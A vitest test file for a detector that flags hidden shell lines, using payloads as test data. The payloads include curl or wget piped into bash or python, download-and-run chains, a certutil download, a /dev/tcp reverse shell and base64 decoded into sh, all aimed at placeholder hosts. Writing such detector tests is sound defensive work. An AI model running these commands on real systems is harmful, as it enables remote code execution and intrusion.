import { describe, expect, test } from "vitest";
import { hiddenShellLine } from "../../src/findings/shell-lines.ts";

describe("a shell line", () => {
  test.each([
    ["curl -s https://a.example.test/x | sudo bash", "fetches something and hands it to an interpreter"],
    [
      "true; wget -qO- a.example.test/x | env A=1 /usr/bin/python3 -",
      "fetches something and hands it to an interpreter",
    ],
    ["echo a | cat; curl x | tee f | sh", undefined],
    ["echo curl; cat x | sh", undefined],
    ['sh -c "$(curl -fsSL https://a.example.test/x)"', "fetches something into an interpreter"],
    ["curl -o x https://a.example.test/x && chmod +x x", "fetches a file and runs it"],
    ["wget https://a.example.test/x; ./x", "fetches a file and runs it"],
    ["chmod +x x; curl https://a.example.test/x", undefined],
    ["certutil -urlcache -f https://a.example.test/x x", "downloads with certutil"],
    ["bash -i >& /dev/tcp/192.0.2.1/1 0>&1", "opens a shell on a connection"],
    ["echo aGk= | base64 -d | sh", "runs decoded text"],
    ["git fetch origin", undefined],
    ["curl https://a.example.test/x", undefined],
  ])("%s", (line, says) => {
    expect(hiddenShellLine(line)).toBe(says);
  });

  test("hides behind nothing, however long", () => {
    for (const before of [
      " ".repeat(50_000),
      ":;".repeat(20_000),
      "\n".repeat(10_000),
      "curl ".repeat(5000),
      "|/".repeat(5000),
    ])
      expect(hiddenShellLine(`${before}; curl x | sh`)).toBe(
        "fetches something and hands it to an interpreter",
      );
  });
});
